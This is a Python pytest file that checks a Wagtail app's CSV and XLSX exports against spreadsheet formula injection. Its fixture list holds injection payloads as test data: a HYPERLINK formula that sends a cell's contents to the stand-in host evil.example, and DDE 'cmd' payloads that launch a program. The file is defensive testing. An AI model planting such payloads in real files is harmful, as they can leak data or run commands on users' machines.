"""No cell of ours is a formula, in any file that a spreadsheet opens."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.sample import FULL_MEASURE, RECORD, make_document, make_index, make_item, make_report
from wagtail_ita.domain.records import EvidenceKind, EvidenceRecord
from wagtail_ita.models import ITASettings
from wagtail_ita.transfer.reading import read_report
from wagtail_ita.transfer.template import import_template

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"คลิก")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
RUNS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"-?[0-9][0-9,]*(\.[0-9]+)?")


@pytest.fixture(params=FORMULAS)
def formula(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def report(formula: str) -> Any:
    """A report, an item and a year in which every text is a formula."""
    index = make_index()
    index.title = formula
    index.save_revision().publish()
    ITASettings.objects.create(site=index.get_site(), agency_name_th=formula, memo_unit=formula)
    document = make_document(formula, "a.pdf")
    pieces = (
        EvidenceRecord(kind=EvidenceKind.DOCUMENT, key=str(document.pk), note=formula),
        EvidenceRecord(
            kind=EvidenceKind.LINK, url="https://example.go.th/", title=formula, note=formula
        ),
    )
    measure = replace(
        FULL_MEASURE,
        title=formula,
        description=formula,
        steps=(formula, formula),
        responsible=(formula,),
        output=f"<p>{formula}</p>",
        outcome=f"<p>{formula}</p>",
        period=replace(FULL_MEASURE.period, note=formula),
        evidence=pieces,
    )
    item = make_item(
        index,
        "O12",
        title=formula,
        explanation=formula,
        evidence=[("document", {"document": document, "title": formula, "note": formula})],
    )
    item.save_revision().publish()
    make_item(index, "O13", title=formula, live=False)
    return make_report(index, replace(RECORD, title=formula, measures=(measure,)))


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def running(cells: list[str]) -> list[str]:
    return [each for each in cells if RUNS.match(each) and not NUMBER.fullmatch(each)]


def formulas_in(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def files_of(report: Any) -> dict[str, bytes]:
    """Return every spreadsheet that a visitor can have, those in the packs, too."""
    index = report.get_parent().specific
    found: dict[str, bytes] = {}
    for page in (report, index):
        for name in page.download_names:
            if name.endswith((".csv", ".xlsx", ".zip")):
                found[f"{page.url}{name}"] = Client().get(f"{page.url}{name}").getvalue()
    for address, data in list(found.items()):
        if address.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                found |= {f"{address}/{each}": archive.read(each) for each in archive.namelist()}
    return found


def test_no_public_spreadsheet_has_one(report: Any) -> None:
    files = files_of(report)
    tables = {name: data for name, data in files.items() if name.endswith(".csv")}
    books = {name: data for name, data in files.items() if name.endswith(".xlsx")}
    assert len(tables) >= 6 and len(books) >= 4
    for name, data in tables.items():
        assert running(csv_cells(data)) == [], name
    for name, data in books.items():
        assert formulas_in(data) == [], name


def test_no_spreadsheet_of_the_admin_has_one(report: Any, admin_client: Client) -> None:
    index = report.get_parent()
    for view in ("wagtail_ita_board", "wagtail_ita_answer_sheet"):
        address = reverse(view, args=[index.pk])
        table = admin_client.get(f"{address}?export=csv").getvalue()
        assert running(csv_cells(table)) == [], view
        book = admin_client.get(f"{address}?export=xlsx").getvalue()
        assert formulas_in(book) == [], view


def test_no_list_of_findings_has_one(report: Any, capfdbinary: Any) -> None:
    with pytest.raises(CommandError):
        call_command("ita_check", year=2569, format="csv", verbosity=0)
    table = capfdbinary.readouterr().out
    assert len(csv_cells(table)) > 50
    assert running(csv_cells(table)) == []


def test_what_was_guarded_is_read_again_as_it_was(report: Any, formula: str) -> None:
    for name in ("report.csv", "report.xlsx"):
        data = Client().get(f"{report.url}{name}").getvalue()
        [measure] = read_report(data, name=name).parsed.record.measures
        assert measure.title.split() == formula.split(), name


def test_the_sheet_to_fill_in_has_none() -> None:
    for language in ("th", "en"):
        assert formulas_in(import_template(language)) == []
